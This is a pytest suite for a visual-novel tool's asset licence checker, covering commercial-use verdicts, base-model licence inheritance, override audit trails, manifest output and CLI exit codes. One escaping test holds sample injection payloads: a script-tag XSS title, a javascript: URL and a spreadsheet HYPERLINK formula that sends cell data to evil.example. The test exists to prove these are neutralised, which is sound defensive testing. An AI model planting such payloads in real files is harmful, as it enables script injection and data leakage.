"""The licence check, manifest and overrides (issue 17) over a project that mixes every case."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from comfyvn.config import update_config
from comfyvn.hooks import get_hook_bus
from comfyvn.ingest.mappers import normalise_metadata
from comfyvn.licences import check_project, clear_override, override_history, render_manifest, set_override
from comfyvn.licences.cli import main as cli
from comfyvn.licences.overrides import OverrideNotFoundError
from comfyvn.studio.core.asset_registry import AssetNotFoundError, AssetRegistry

PROJECT = "release"


def civitai(name: str, commercial, *, no_credit: bool = True, derivatives: bool = True, base: str = "SDXL 1.0",
            model_id: int = 1) -> dict:
    """Registry metadata of a Civitai model pull (as the ingest queue stores it)."""
    model = {"id": model_id, "name": name, "type": "LORA", "allowNoCredit": no_credit, "allowCommercialUse": commercial,
             "allowDerivatives": derivatives, "allowDifferentLicense": False, "creator": {"username": f"{name}-maker"},
             "modelVersions": [{"id": model_id * 10, "baseModel": base, "files": []}]}
    pulled = normalise_metadata("civitai", model)
    return {k: v for k, v in pulled.items() if k not in ("tags", "license", "provider") and v not in (None, [], {})}


def put(folder: Path, name: str) -> Path:
    path = folder / "in" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(name.encode() * 3)
    return path


def build_project(ws, tmp_path: Path) -> tuple[AssetRegistry, dict[str, str]]:
    """Every case of issue 17 in one project; returns the registry and uids by case name."""
    reg = AssetRegistry(PROJECT, ws=ws, make_thumbnails=False)
    uid: dict[str, str] = {}

    def add(case: str, name: str, kind: str, licence: str | None = None, meta: dict | None = None,
            provenance: dict | None = None) -> None:
        uid[case] = reg.register_file(put(tmp_path, name), kind, license_tag=licence, metadata=meta,
                                      provenance=provenance)["uid"]

    add("cc0", "classroom.png", "backgrounds", "cc0", {"title": "Classroom", "author": "ana"})
    add("cc_by", "station.png", "backgrounds", "cc-by-4.0",
        {"title": "Station night", "author": "mika", "source_url": "https://example.org/station"})
    add("cc_by_sa", "theme.ogg", "music", "cc-by-sa-4.0", {"title": "Main theme", "author": "rui"})
    add("cc_by_nc", "ren.png", "sprites", "cc-by-nc-4.0", {"title": "Ren", "author": "kai"})
    for i, level in enumerate(("Sell", "Rent", "RentCivit", "Image", "None"), start=1):
        add(f"civitai_{level.lower()}", f"lora_{level.lower()}.safetensors", "loras",
            meta=civitai(f"{level} LoRA", level, model_id=i))
    add("civitai_credit", "lora_credit.safetensors", "loras", meta=civitai("Credit LoRA", "Sell", no_credit=False,
                                                                          model_id=7))
    add("flux_lora", "flux_style.safetensors", "loras", meta=civitai("Flux style", "Sell", base="Flux.1 D", model_id=8))
    add("flux_image", "cg_flux.png", "cgs", "cc0", {"title": "CG made with the Flux LoRA"},
        provenance={"generated_with": [uid["flux_lora"]]})
    add("merged", "merge.safetensors", "loras", meta={**civitai("Merge", "Sell", model_id=9),
                                                      "merged_from": [uid["civitai_credit"]]})
    add("no_licence", "mystery.png", "sprites", meta={"title": "Mystery"})
    add("bought", "aoi.png", "sprites", "cc-by-nc-4.0", {"title": "Aoi", "author": "kai"})
    set_override(reg, uid["bought"], license="studio-licence-2026", terms={"commercial_use": "sell",
                 "credit_required": False}, note="bought a commercial licence, invoice 123", decided_by="lead")
    return reg, uid


@pytest.fixture
def project(ws, tmp_path):
    return build_project(ws, tmp_path)


def by_uid(result: dict) -> dict[str, dict]:
    return {a["uid"]: a for a in result["assets"]}


def test_every_case_gets_its_verdict_reason_and_source_for_commercial(project):
    reg, uid = project
    result = check_project(reg, "commercial")
    a = by_uid(result)
    verdict = {case: a[u]["verdict"] for case, u in uid.items()}
    assert verdict == {
        "cc0": "allowed", "cc_by": "allowed_with_duties", "cc_by_sa": "allowed_with_duties", "cc_by_nc": "blocked",
        "civitai_sell": "allowed_with_duties",  # SDXL's OpenRAIL++ notice and use restrictions travel
        "civitai_rent": "blocked", "civitai_rentcivit": "blocked", "civitai_image": "blocked",
        "civitai_none": "blocked", "civitai_credit": "allowed_with_duties", "flux_lora": "blocked",
        "flux_image": "blocked", "merged": "allowed_with_duties", "no_licence": "unknown", "bought": "allowed"}
    assert result["counts"] == {"allowed": 2, "allowed_with_duties": 5, "blocked": 7, "unknown": 1}
    assert result["ok"] is False

    by = a[uid["cc_by"]]
    assert by["credit_line"] == ('"Station night" by mika (https://example.org/station), licensed under '
                                 "Creative Commons Attribution 4.0 International")
    assert {d["code"] for d in by["duties"]} == {"credit", "licence-notice"}
    assert {d["code"] for d in a[uid["cc_by_sa"]]["duties"]} == {"credit", "licence-notice", "share-alike"}
    [nc] = a[uid["cc_by_nc"]]["reasons"]
    assert (nc["code"], nc["source"]) == ("commercial", "user") and "non-commercial" in nc["text"]
    [rent] = a[uid["civitai_rent"]]["reasons"]
    assert rent["source"] == "provider" and "rent-only" in rent["text"]
    assert "Civitai's generator" in a[uid["civitai_rentcivit"]]["reasons"][0]["text"]
    assert any(d["code"] == "credit" and d["source"] == "provider" for d in a[uid["civitai_credit"]]["duties"])
    # FLUX.1 [dev]: the LoRA itself says Sell, its base model's licence blocks it (inheritance)
    [flux] = a[uid["flux_lora"]]["reasons"]
    assert flux["source"] == "base-model" and flux["licence"] == "flux-1-dev-non-commercial"
    assert flux["via"] == [{"relation": "base_model", "ref": "flux-1-dev-non-commercial"}]
    # ... and the chain goes on: an image generated with that LoRA inherits the block
    [img] = a[uid["flux_image"]]["reasons"]
    assert img["via"][0] == {"relation": "generated_with", "ref": uid["flux_lora"], "uid": uid["flux_lora"]}
    assert img["licence"] == "flux-1-dev-non-commercial"
    # a merge inherits its source's credit duty, with the path to it
    inherited = [d for d in a[uid["merged"]]["duties"] if d.get("via")]
    assert any(d["code"] == "credit" and d["via"][0]["uid"] == uid["civitai_credit"] for d in inherited)
    [unknown] = a[uid["no_licence"]]["reasons"]
    assert unknown["code"] == "no-licence" and unknown["source"] is None
    bought = a[uid["bought"]]
    assert bought["override"]["note"] == "bought a commercial licence, invoice 123"
    assert bought["override"]["decided_by"] == "lead" and bought["reasons"] == []


def test_internal_and_free_release_profiles(project):
    reg, uid = project
    internal = by_uid(check_project(reg, "internal"))
    assert internal[uid["cc_by_nc"]]["verdict"] == "allowed"  # studio use only: no commercial need, no duties
    assert internal[uid["cc_by"]]["verdict"] == "allowed"
    assert internal[uid["civitai_none"]]["verdict"] == "allowed"
    assert internal[uid["flux_lora"]]["verdict"] == "allowed"
    assert internal[uid["no_licence"]]["verdict"] == "unknown"
    free = by_uid(check_project(reg, "free-release"))
    assert free[uid["cc_by_nc"]]["verdict"] == "allowed_with_duties"
    assert free[uid["cc0"]]["verdict"] == "allowed"
    rent = by_uid(check_project(reg, "rent"))
    assert rent[uid["civitai_rent"]]["verdict"] == "allowed_with_duties"
    assert rent[uid["civitai_rentcivit"]]["verdict"] == "blocked"


def test_profiles_are_overridable_in_the_workspace_config(project, ws):
    reg, uid = project
    update_config({"licences": {"profiles": {"commercial": {"commercial_use": "rent"},
                                             "jam": {"description": "a game jam", "commercial_use": None,
                                                     "output_commercial_use": None, "distributes": False}}}}, ws)
    assert by_uid(check_project(reg, "commercial"))[uid["civitai_rent"]]["verdict"] == "allowed_with_duties"
    assert by_uid(check_project(reg, "jam"))[uid["cc_by_nc"]]["verdict"] == "allowed"
    with pytest.raises(ValueError, match="unknown use profile 'sell-it'.*commercial"):
        check_project(reg, "sell-it")
    update_config({"licences": {"profiles": {"jam": {"commercial_use": "lots"}}}}, ws)
    with pytest.raises(ValueError, match="licences.profiles.jam.commercial_use"):
        check_project(reg, "jam")


def test_provenance_cycles_and_dangling_links_are_unknown_not_endless(project, tmp_path):
    reg, uid = project
    a = reg.register_file(put(tmp_path, "a.safetensors"), "loras", license_tag="mit")["uid"]
    b = reg.register_file(put(tmp_path, "b.safetensors"), "loras", license_tag="mit",
                          metadata={"merged_from": [a]})["uid"]
    reg.update_asset_meta(a, {"merged_from": [b]})
    c = reg.register_file(put(tmp_path, "c.png"), "cgs", license_tag="cc0",
                          metadata={"generated_with": "somebody/unknown-model"})["uid"]
    d = reg.register_file(put(tmp_path, "d.png"), "cgs", license_tag="cc0",
                          metadata={"generated_with": "black-forest-labs/FLUX.1-schnell"})["uid"]
    res = by_uid(check_project(reg, "commercial"))
    assert res[a]["verdict"] == res[b]["verdict"] == "unknown"
    assert any(r["code"] == "provenance-cycle" and f"{a} -> {b} -> {a}" in r["text"] for r in res[a]["reasons"])
    assert res[c]["verdict"] == "unknown" and res[c]["reasons"][0]["code"] == "dangling-source"
    assert res[d]["verdict"] == "allowed"  # generated with FLUX.1 [schnell]: Apache-2.0, outputs owe nothing


def test_overrides_keep_a_paper_trail_and_emit_events(project, ws):
    reg, uid = project
    bus = get_hook_bus(reg.db)
    start = bus.last_id()
    narrow = set_override(reg, uid["flux_lora"], terms={"commercial_use": "sell"}, note="the LoRA's author sold it "
                          "to us, invoice 5", decided_by="producer")  # its own rights only: the base model still blocks
    assert by_uid(check_project(reg, "commercial"))[uid["flux_lora"]]["verdict"] == "blocked"
    rec = set_override(reg, uid["flux_lora"], terms={"commercial_use": "sell"}, covers_sources=True,
                       note="BFL commercial licence, contract 7", decided_by="producer")
    assert by_uid(check_project(reg, "commercial"))[uid["flux_lora"]]["verdict"] == "allowed"
    cleared = clear_override(reg, uid["flux_lora"], note="contract ended", decided_by="producer")
    assert by_uid(check_project(reg, "commercial"))[uid["flux_lora"]]["verdict"] == "blocked"  # the newest decision
    trail = override_history(reg.db, PROJECT, uid["flux_lora"])
    assert [(t["action"], t["note"], t["decided_by"]) for t in trail] == [
        ("set", "the LoRA's author sold it to us, invoice 5", "producer"),
        ("set", "BFL commercial licence, contract 7", "producer"), ("cleared", "contract ended", "producer")]
    events = bus.events_after(start, ["on_asset_licence_override"])
    assert [(e["data"]["action"], e["data"]["override_id"], e["data"]["uid"]) for e in events] == [
        ("set", narrow["id"], uid["flux_lora"]), ("set", rec["id"], uid["flux_lora"]),
        ("cleared", cleared["id"], uid["flux_lora"])]
    assert events[1]["data"]["covers_sources"] is True and events[0]["data"]["hook_event"] == "licence_override"
    with pytest.raises(OverrideNotFoundError):
        clear_override(reg, uid["flux_lora"], note="again", decided_by="producer")
    with pytest.raises(ValueError, match="note is required"):
        set_override(reg, uid["cc0"], license="mit", note="  ", decided_by="x")
    with pytest.raises(ValueError, match="states a licence or at least one term"):
        set_override(reg, uid["cc0"], note="why", decided_by="x")
    with pytest.raises(ValueError, match="commercial_use"):
        set_override(reg, uid["cc0"], terms={"commercial_use": "free"}, note="why", decided_by="x")
    with pytest.raises(AssetNotFoundError):
        set_override(reg, "0" * 16, license="mit", note="why", decided_by="x")
    assert len(override_history(reg.db, PROJECT)) == 4  # nothing half-written by the refusals


def test_manifest_is_deterministic_and_complete(project):
    reg, uid = project
    result = check_project(reg, "commercial")
    md = render_manifest(result, "md")
    assert md == render_manifest(check_project(reg, "commercial"), "md")
    for fmt in ("json", "csv", "html"):
        assert render_manifest(result, fmt) == render_manifest(check_project(reg, "commercial"), fmt)
    assert "## Creative Commons Attribution 4.0 International (`cc-by-4.0`)" in md
    assert "- Credit: \"Station night\" by mika (https://example.org/station)" in md
    assert 'bought a commercial licence, invoice 123" — recorded by lead on' in md
    # the full text of each licence used ships with it (base-model licences included)
    assert "Attribution-ShareAlike 4.0 International Public License" in md
    assert "CreativeML Open RAIL++-M License" in md and "Apache License" not in md
    assert "https://github.com/black-forest-labs/flux/blob/main/model_licenses/LICENSE-FLUX1-dev" in md
    data = json.loads(render_manifest(result, "json"))
    assert [g["license"] for g in data["groups"]][:3] == ["cc-by-4.0", "cc-by-nc-4.0", "cc-by-sa-4.0"]
    assert data["groups"][-1]["name"] == "No licence"
    csv_lines = render_manifest(result, "csv").splitlines()
    assert csv_lines[0].startswith("license,license_name,title,creator")
    assert len(csv_lines) == 1 + len(uid)


def test_html_and_csv_manifests_escape_what_people_typed(project, tmp_path):
    reg, _uid = project
    reg.register_file(put(tmp_path, "x.png"), "cgs", license_tag="cc0",
                      metadata={"title": "<script>alert(1)</script>", "source_url": "javascript:alert(1)"})
    reg.register_file(put(tmp_path, "y.png"), "cgs", license_tag="cc0",
                      metadata={"title": '=HYPERLINK("https://evil.example/?"&A1,"click")', "author": "@SUM(1+1)"})
    result = check_project(reg, "commercial")
    page = render_manifest(result, "html")
    assert "<script>alert" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert 'href="javascript:' not in page
    rows = list(csv.DictReader(io.StringIO(render_manifest(result, "csv"))))
    [row] = [r for r in rows if r["path"] == "cgs/y.png"]
    assert row["title"] == '\'=HYPERLINK("https://evil.example/?"&A1,"click")'
    assert row["creator"] == "'@SUM(1+1)" and row["credit_line"] == ""
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


def test_a_chain_deeper_than_the_limit_is_unknown(ws, tmp_path):
    reg = AssetRegistry("deep", ws=ws, make_thumbnails=False)
    prev = reg.register_file(put(tmp_path, "m0.safetensors"), "loras", license_tag="mit")["uid"]
    for i in range(1, 40):
        prev = reg.register_file(put(tmp_path, f"m{i}.safetensors"), "loras", license_tag="mit",
                                 metadata={"merged_from": prev})["uid"]
    res = by_uid(check_project(reg, "commercial"))
    assert res[prev]["verdict"] == "unknown"
    assert any(r["code"] == "provenance-too-deep" for r in res[prev]["reasons"])
    assert sum(1 for r in res.values() if r["verdict"] == "allowed_with_duties") == 32  # the 32 nearest the root


def run_cli(*args: str) -> tuple[int, str]:
    out = io.StringIO()
    return cli(list(args), out=out), out.getvalue()


def test_cli_exit_status_gates_a_release(project, ws, tmp_path, capsys):
    reg, uid = project
    code, text = run_cli("check", "--project", PROJECT, "--use", "commercial")
    assert code == 1 and "NOT OK: 7 blocked, 1 unknown" in text
    code, text = run_cli("check", "--project", PROJECT, "--use", "internal", "--json")
    assert code == 1 and json.loads(text)["counts"]["unknown"] == 1
    clean = AssetRegistry("clean", ws=ws, make_thumbnails=False)
    clean.register_file(put(tmp_path, "ok.png"), "cgs", license_tag="cc-by-4.0", metadata={"author": "me"})
    code, text = run_cli("check", "--project", "clean", "--use", "commercial")
    assert code == 0 and "OK: nothing blocked or unknown" in text
    out = tmp_path / "release" / "CREDITS.md"
    code, _ = run_cli("manifest", "--project", PROJECT, "--format", "md", "--output", str(out))
    first = out.read_bytes()
    code2, _ = run_cli("manifest", "--project", PROJECT, "--format", "md", "--output", str(out))
    assert code == code2 == 0 and out.read_bytes() == first  # same registry, same bytes
    code, text = run_cli("override", "set", uid["no_licence"], "--project", PROJECT, "--license", "cc0",
                         "--note", "our own art", "--by", "ana")
    assert code == 0 and json.loads(text)["decided_by"] == "ana"
    assert by_uid(check_project(reg, "internal"))[uid["no_licence"]]["verdict"] == "allowed"
    code, text = run_cli("override", "list", uid["no_licence"], "--project", PROJECT)
    assert code == 0 and [t["note"] for t in json.loads(text)] == ["our own art"]


def test_cli_refuses_what_it_cannot_check(ws, tmp_path, capsys):
    stranger = tmp_path / "not-a-workspace"
    stranger.mkdir()
    assert run_cli("check", "--workspace", str(stranger))[0] == 2
    assert "is not a comfyvn workspace" in capsys.readouterr().err
    assert not (stranger / "config").exists() and not (stranger / "data").exists()  # nothing created
    assert run_cli("check", "--project", "typo")[0] == 2
    assert "no project 'typo'" in capsys.readouterr().err
    assert not (ws.assets_root / "typo").exists()
    AssetRegistry("p", ws=ws, make_thumbnails=False)
    assert run_cli("check", "--project", "p", "--use", "sell-it")[0] == 2
    assert "unknown use profile" in capsys.readouterr().err
    assert run_cli("override", "clear", "0" * 16, "--project", "p", "--note", "x")[0] == 2
    assert "no licence override" in capsys.readouterr().err


def test_cli_finds_a_project_under_the_assets_root_the_registry_uses(ws, tmp_path, monkeypatch):
    monkeypatch.setenv("COMFYVN_ASSETS_ROOT", str(tmp_path / "elsewhere-assets"))
    reg = AssetRegistry("moved", ws=ws, make_thumbnails=False)
    reg.register_file(put(tmp_path, "m.png"), "cgs", license_tag="cc0")
    assert run_cli("check", "--project", "moved")[0] == 0
